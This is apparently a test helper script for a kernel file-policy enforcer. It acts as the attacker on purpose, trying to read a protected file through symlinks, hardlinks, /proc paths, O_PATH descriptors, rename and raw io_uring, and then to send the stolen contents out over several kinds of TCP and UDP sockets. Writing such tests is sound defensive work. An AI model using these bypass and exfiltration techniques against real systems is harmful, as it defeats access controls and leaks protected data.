#!/usr/bin/env python3
"""File agent for the enforcer's file-policy tests (Python 3 stdlib only).

It is the hostile side: it tries to read a protected file despite the kernel
file policy (BPF LSM file_open / inode_link / inode_rename hooks), through as
many paths to the same inode as it knows.

Usage: file_agent.py --json VECTOR [VECTOR ...]

Each VECTOR is `name=arg1,arg2,...`; they run in order and ONE JSON object
is printed on stdout mapping each vector name to its result (a name given
twice gets "#2", "#3", ... appended). The exit status is always 0: the
caller judges the results.

Result: {"ok": true, "bytes": N, "data": first 64 bytes (latin-1)}
        {"ok": false, "errno": "EPERM"|"EACCES"|...|null, "error": text}
plus per-vector extras listed below.

Vectors (paths absolute unless said):
  open=PATH              open(PATH, O_RDONLY), read it all
  symlink=TARGET,LINK    (remove LINK,) symlink LINK -> TARGET, open LINK, read
  hardlink=TARGET,LINK   (remove LINK,) link(TARGET, LINK) ("link_errno" if it
                         fails), then open LINK and read in any case
  relative=DIR,RELPATH   chdir(DIR), open(RELPATH), read, chdir back
  procroot=PATH          open("/proc/self/root" + PATH), read
  procfd=PATH            fd = open(PATH, O_PATH) ("opath_ok"), then open
                         /proc/self/fd/<fd> O_RDONLY, read
  rename=SRC,DST         rename(SRC, DST) ("rename_errno" if it fails), open
                         DST if it worked else SRC, read ("path": the one read)
  iouring=PATH           IORING_OP_OPENAT through a raw io_uring (ctypes +
                         mmap + syscalls), os.read the fd it returns;
                         "unavailable": true when io_uring_setup fails
  create=PATH            open(PATH, O_WRONLY|O_CREAT|O_TRUNC, 0600), write b"x"
  list=DIR               listdir(DIR): "bytes" = number of entries
  exec=PATH              run [PATH] (no shell): ok if it started ("returncode")
"""
import ctypes
import errno as E
import json
import time
import mmap
import os
import struct
import subprocess
import sys

O_PATH = getattr(os, "O_PATH", 0o10000000)
DATA_PREVIEW = 64


class Fail(Exception):
    """An error result with extra fields (errno name, extras)."""

    def __init__(self, err, text, **extra):
        super().__init__(text)
        self.err = err
        self.text = text
        self.extra = extra


def ename(num):
    if num is None:
        return None
    return E.errorcode.get(num, str(num))


def oserr_text(e):
    s = "%s: %s" % (ename(e.errno), e.strerror)
    if e.filename is not None:
        s += " [%s]" % e.filename
    return s


def read_fd(fd):
    """Read fd to EOF, close it, return the success result."""
    try:
        chunks = []
        while True:
            b = os.read(fd, 65536)
            if not b:
                break
            chunks.append(b)
    finally:
        os.close(fd)
    data = b"".join(chunks)
    return {"ok": True, "bytes": len(data),
            "data": data[:DATA_PREVIEW].decode("latin-1")}


def read_path(path):
    return read_fd(os.open(path, os.O_RDONLY))


def remove_if_exists(path):
    try:
        os.unlink(path)
    except FileNotFoundError:
        pass


# ---------------------------------------------------------------- vectors

def v_open(path):
    return read_path(path)


def v_symlink(target, link):
    remove_if_exists(link)
    os.symlink(target, link)
    return read_path(link)


def v_hardlink(target, link):
    extra = {}
    try:
        remove_if_exists(link)
    except OSError as e:
        extra["unlink_errno"] = ename(e.errno)
    try:
        os.link(target, link)
        extra["link_ok"] = True
    except OSError as e:
        extra["link_ok"] = False
        extra["link_errno"] = ename(e.errno)
        extra["link_error"] = oserr_text(e)
    try:
        res = read_path(link)
    except OSError as e:
        raise Fail(e.errno, oserr_text(e), **extra)
    res.update(extra)
    return res


def v_relative(dirpath, relpath):
    try:
        orig = os.getcwd()
    except OSError:
        orig = None
    os.chdir(dirpath)
    try:
        return read_path(relpath)
    finally:
        if orig is not None:
            try:
                os.chdir(orig)
            except OSError:
                pass


def v_procroot(path):
    return read_path("/proc/self/root" + path)


def v_procfd(path):
    try:
        pfd = os.open(path, O_PATH)
    except OSError as e:
        raise Fail(e.errno, oserr_text(e), opath_ok=False)
    try:
        try:
            res = read_path("/proc/self/fd/%d" % pfd)
        except OSError as e:
            raise Fail(e.errno, oserr_text(e), opath_ok=True)
    finally:
        os.close(pfd)
    res["opath_ok"] = True
    return res


def v_rename(src, dst):
    extra = {}
    try:
        os.rename(src, dst)
        extra["rename_ok"] = True
        target = dst
    except OSError as e:
        extra["rename_ok"] = False
        extra["rename_errno"] = ename(e.errno)
        extra["rename_error"] = oserr_text(e)
        target = src
    extra["path"] = target
    try:
        res = read_path(target)
    except OSError as e:
        raise Fail(e.errno, oserr_text(e), **extra)
    res.update(extra)
    return res


# --- io_uring, by hand (x86_64 syscall numbers) ---

SYS_io_uring_setup = 425
SYS_io_uring_enter = 426
IORING_OFF_SQ_RING = 0
IORING_OFF_CQ_RING = 0x8000000
IORING_OFF_SQES = 0x10000000
IORING_OP_OPENAT = 18
IORING_ENTER_GETEVENTS = 1
AT_FDCWD = -100
SQE_SIZE = 64
CQE_SIZE = 16


class SqringOffsets(ctypes.Structure):
    _fields_ = [("head", ctypes.c_uint32), ("tail", ctypes.c_uint32),
                ("ring_mask", ctypes.c_uint32), ("ring_entries", ctypes.c_uint32),
                ("flags", ctypes.c_uint32), ("dropped", ctypes.c_uint32),
                ("array", ctypes.c_uint32), ("resv1", ctypes.c_uint32),
                ("user_addr", ctypes.c_uint64)]


class CqringOffsets(ctypes.Structure):
    _fields_ = [("head", ctypes.c_uint32), ("tail", ctypes.c_uint32),
                ("ring_mask", ctypes.c_uint32), ("ring_entries", ctypes.c_uint32),
                ("overflow", ctypes.c_uint32), ("cqes", ctypes.c_uint32),
                ("flags", ctypes.c_uint32), ("resv1", ctypes.c_uint32),
                ("user_addr", ctypes.c_uint64)]


class IoUringParams(ctypes.Structure):
    _fields_ = [("sq_entries", ctypes.c_uint32), ("cq_entries", ctypes.c_uint32),
                ("flags", ctypes.c_uint32), ("sq_thread_cpu", ctypes.c_uint32),
                ("sq_thread_idle", ctypes.c_uint32), ("features", ctypes.c_uint32),
                ("wq_fd", ctypes.c_uint32), ("resv", ctypes.c_uint32 * 3),
                ("sq_off", SqringOffsets), ("cq_off", CqringOffsets)]


assert ctypes.sizeof(IoUringParams) == 120


def _u32(m, off):
    return struct.unpack_from("=I", m, off)[0]


def _put_u32(m, off, val):
    struct.pack_into("=I", m, off, val & 0xFFFFFFFF)


def v_iouring(path):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    params = IoUringParams()
    ring_fd = libc.syscall(ctypes.c_long(SYS_io_uring_setup), ctypes.c_long(4),
                           ctypes.byref(params))
    if ring_fd < 0:
        err = ctypes.get_errno()
        disabled = None
        try:
            with open("/proc/sys/kernel/io_uring_disabled") as f:
                disabled = f.read().strip()
        except OSError:
            pass
        raise Fail(err, "io_uring unavailable: io_uring_setup: %s: %s"
                   % (ename(err), os.strerror(err)),
                   unavailable=True, io_uring_disabled=disabled)
    maps = []
    try:
        sq_off, cq_off = params.sq_off, params.cq_off
        prot = mmap.PROT_READ | mmap.PROT_WRITE
        flags = mmap.MAP_SHARED | getattr(mmap, "MAP_POPULATE", 0)
        sq_ring = mmap.mmap(ring_fd, sq_off.array + params.sq_entries * 4,
                            flags=flags, prot=prot, offset=IORING_OFF_SQ_RING)
        maps.append(sq_ring)
        cq_ring = mmap.mmap(ring_fd, cq_off.cqes + params.cq_entries * CQE_SIZE,
                            flags=flags, prot=prot, offset=IORING_OFF_CQ_RING)
        maps.append(cq_ring)
        sqes = mmap.mmap(ring_fd, params.sq_entries * SQE_SIZE,
                         flags=flags, prot=prot, offset=IORING_OFF_SQES)
        maps.append(sqes)

        pathbuf = ctypes.create_string_buffer(os.fsencode(path))  # NUL-terminated
        addr = ctypes.addressof(pathbuf)

        sq_mask = _u32(sq_ring, sq_off.ring_mask)
        tail = _u32(sq_ring, sq_off.tail)
        idx = tail & sq_mask
        # struct io_uring_sqe: opcode u8, flags u8, ioprio u16, fd s32, off u64,
        # addr u64, len u32, open_flags u32, user_data u64, buf_index u16,
        # personality u16, file_index u32, addr3 u64, __pad2 u64 (64 bytes)
        sqe = struct.pack("=BBHiQQIIQHHIQQ", IORING_OP_OPENAT, 0, 0, AT_FDCWD,
                          0, addr, 0, os.O_RDONLY, 1, 0, 0, 0, 0, 0)
        assert len(sqe) == SQE_SIZE
        sqes[idx * SQE_SIZE:(idx + 1) * SQE_SIZE] = sqe
        _put_u32(sq_ring, sq_off.array + idx * 4, idx)
        _put_u32(sq_ring, sq_off.tail, tail + 1)  # x86 TSO: plain store is a release

        while True:
            n = libc.syscall(ctypes.c_long(SYS_io_uring_enter), ctypes.c_long(ring_fd),
                             ctypes.c_long(1), ctypes.c_long(1),
                             ctypes.c_long(IORING_ENTER_GETEVENTS),
                             ctypes.c_void_p(None), ctypes.c_long(0))
            if n >= 0:
                break
            err = ctypes.get_errno()
            if err != E.EINTR:
                raise Fail(err, "io_uring_enter: %s: %s" % (ename(err), os.strerror(err)))

        cq_mask = _u32(cq_ring, cq_off.ring_mask)
        head = _u32(cq_ring, cq_off.head)
        ctail = _u32(cq_ring, cq_off.tail)
        if head == ctail:
            raise Fail(None, "io_uring: no completion after io_uring_enter")
        user_data, res, cflags = struct.unpack_from(
            "=QiI", cq_ring, cq_off.cqes + (head & cq_mask) * CQE_SIZE)
        _put_u32(cq_ring, cq_off.head, head + 1)
        del pathbuf
        if user_data != 1:
            raise Fail(None, "io_uring: unexpected user_data %d (res %d)" % (user_data, res))
        if res < 0:
            raise Fail(-res, "io_uring openat: %s: %s" % (ename(-res), os.strerror(-res)))
        out = read_fd(res)
        out["features"] = params.features
        return out
    finally:
        for m in maps:
            try:
                m.close()
            except Exception:  # noqa: BLE001
                pass
        os.close(ring_fd)


def v_create(path):
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
    try:
        n = os.write(fd, b"x")
    finally:
        os.close(fd)
    return {"ok": True, "bytes": n}


def v_list(dirpath):
    return {"ok": True, "bytes": len(os.listdir(dirpath))}


def v_exec(path):
    p = subprocess.Popen([path], stdin=subprocess.DEVNULL,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        rc = p.wait(timeout=10)
    except subprocess.TimeoutExpired:
        p.kill()
        rc = p.wait()
    return {"ok": True, "returncode": rc}


# Contents of every successful read so far (what `send` tries to exfiltrate).
STOLEN = []


def v_wait(path):
    deadline = time.time() + 60
    while not os.path.exists(path):
        if time.time() > deadline:
            return {"ok": False, "errno": "ETIMEDOUT", "error": "waited 60 s for %s" % path}
        time.sleep(0.02)
    return {"ok": True}


def _connect(host, port):
    import socket
    return socket.create_connection((host, int(port)), timeout=5)


def v_connect(host, port):
    s = _connect(host, port)
    s.close()
    return {"ok": True}


def v_send(host, port):
    payload = ("STOLEN:" + "|".join(STOLEN)).encode("latin-1")
    s = _connect(host, port)
    s.sendall(payload)
    s.close()
    return {"ok": True, "bytes": len(payload)}


def v_child_send(host, port):
    # A process started after the taint, sending on its own new connection.
    code = ("import socket,sys; s=socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=5); "
            "s.sendall(b'CHILD:' + sys.argv[3].encode('latin-1')); s.close()")
    p = subprocess.run([sys.executable, "-c", code, host, port, "|".join(STOLEN)],
                       stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, timeout=20)
    if p.returncode != 0:
        err = p.stderr.decode("utf-8", "replace").strip().splitlines()
        last = err[-1] if err else "exit %d" % p.returncode
        errno_name = None
        for n in ("EPERM", "EACCES", "ECONNREFUSED", "ETIMEDOUT"):
            if n in last or ("Errno %d]" % getattr(__import__("errno"), n)) in last:
                errno_name = n
        return {"ok": False, "errno": errno_name, "error": last}
    return {"ok": True}


HELD = {}


def v_hold(host, port):
    # A TCP connection opened now and kept: it sends one greeting at once.
    s = _connect(host, port)
    s.sendall(b"HELD-BEFORE;")
    HELD["tcp:%s:%s" % (host, port)] = s
    return {"ok": True}


def v_hold_udp(host, port):
    # A connected UDP socket opened now and kept (sends go out with no
    # address: no sendmsg hook runs for them).
    import socket
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect((host, int(port)))
    s.send(b"HELD-BEFORE;")
    HELD["udp:%s:%s" % (host, port)] = s
    return {"ok": True}


def v_held_send(kind, host, port):
    # Write the stolen data on a socket opened before (kind tcp or udp);
    # then read: a connection cut by the enforcer shows an error.
    s = HELD["%s:%s:%s" % (kind, host, port)]
    payload = ("HELD-AFTER:" + "|".join(STOLEN) + ";").encode("latin-1")
    res = {"ok": True, "bytes": 0}
    try:
        for _ in range(3):
            res["bytes"] += s.send(payload)
            time.sleep(0.2)
        if kind == "tcp":
            s.settimeout(3)
            try:
                data = s.recv(1)
                res["recv"] = "eof" if data == b"" else "data"
            except OSError as e:
                res["recv_errno"] = ename(e.errno)
    except OSError as e:
        res = {"ok": False, "errno": ename(e.errno), "error": oserr_text(e), "bytes": res["bytes"]}
    return res


def v_foreign(path, host, tcp_port, udp_port):
    # Sockets made by a process outside the agent's identity, received
    # over SCM_RIGHTS: a TCP socket connected to host:tcp_port, a fresh TCP
    # socket, a UDP socket. The agent tries to send on each.
    import socket
    u = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    u.connect(path)
    _, fds, flags, _ = socket.recv_fds(u, 16, 3)
    res = {"ok": True, "received": len(fds), "ctrunc": bool(flags & socket.MSG_CTRUNC)}
    if len(fds) != 3:
        return res
    connected, fresh, dgram = (socket.socket(fileno=fd) for fd in fds)
    payload = ("FOREIGN:" + "|".join(STOLEN)).encode("latin-1")
    for name, fn in (
        ("send", lambda: connected.send(payload)),
        ("connect", lambda: fresh.connect((host, int(tcp_port)))),
        ("sendto", lambda: dgram.sendto(payload, (host, int(udp_port)))),
    ):
        try:
            fn()
            res[name] = "ok"
        except OSError as e:
            res[name] = ename(e.errno)
    return res


VECTORS = {
    "foreign": (v_foreign, 4),
    "wait": (v_wait, 1),
    "hold": (v_hold, 2),
    "hold_udp": (v_hold_udp, 2),
    "held_send": (v_held_send, 3),
    "connect": (v_connect, 2),
    "send": (v_send, 2),
    "child_send": (v_child_send, 2),
    "open": (v_open, 1),
    "symlink": (v_symlink, 2),
    "hardlink": (v_hardlink, 2),
    "relative": (v_relative, 2),
    "procroot": (v_procroot, 1),
    "procfd": (v_procfd, 1),
    "rename": (v_rename, 2),
    "iouring": (v_iouring, 1),
    "create": (v_create, 1),
    "list": (v_list, 1),
    "exec": (v_exec, 1),
}


def run_vector(spec):
    name, sep, argstr = spec.partition("=")
    if name not in VECTORS:
        return name, {"ok": False, "errno": None,
                      "error": "unknown vector %r (known: %s)" % (name, ", ".join(VECTORS))}
    fn, nargs = VECTORS[name]
    args = argstr.split(",") if sep else []
    if len(args) != nargs:
        return name, {"ok": False, "errno": None,
                      "error": "%s takes %d argument(s), got %d: %r" % (name, nargs, len(args), spec)}
    try:
        res = fn(*args)
    except Fail as e:
        res = {"ok": False, "errno": ename(e.err), "error": e.text}
        res.update(e.extra)
    except OSError as e:
        res = {"ok": False, "errno": ename(e.errno), "error": oserr_text(e)}
    except BaseException as e:  # noqa: BLE001 - report, never crash
        if isinstance(e, KeyboardInterrupt):
            raise
        res = {"ok": False, "errno": None, "error": "%s: %s" % (type(e).__name__, e)}
    if res.get("ok") and "data" in res:
        STOLEN.append(res["data"])
    return name, res


def main(argv):
    specs = [a for a in argv if a != "--json"]
    out = {}
    for spec in specs:
        name, res = run_vector(spec)
        key, i = name, 1
        while key in out:
            i += 1
            key = "%s#%d" % (name, i)
        out[key] = res
    sys.stdout.write(json.dumps(out) + "\n")
    sys.stdout.flush()
    return 0


if __name__ == "__main__":
    try:
        main(sys.argv[1:])
    except BaseException as e:  # noqa: BLE001 - last resort: still one JSON object
        if isinstance(e, KeyboardInterrupt):
            raise
        sys.stdout.write(json.dumps({"_agent": {"ok": False, "errno": None,
                                                "error": "%s: %s" % (type(e).__name__, e)}}) + "\n")
    sys.exit(0)
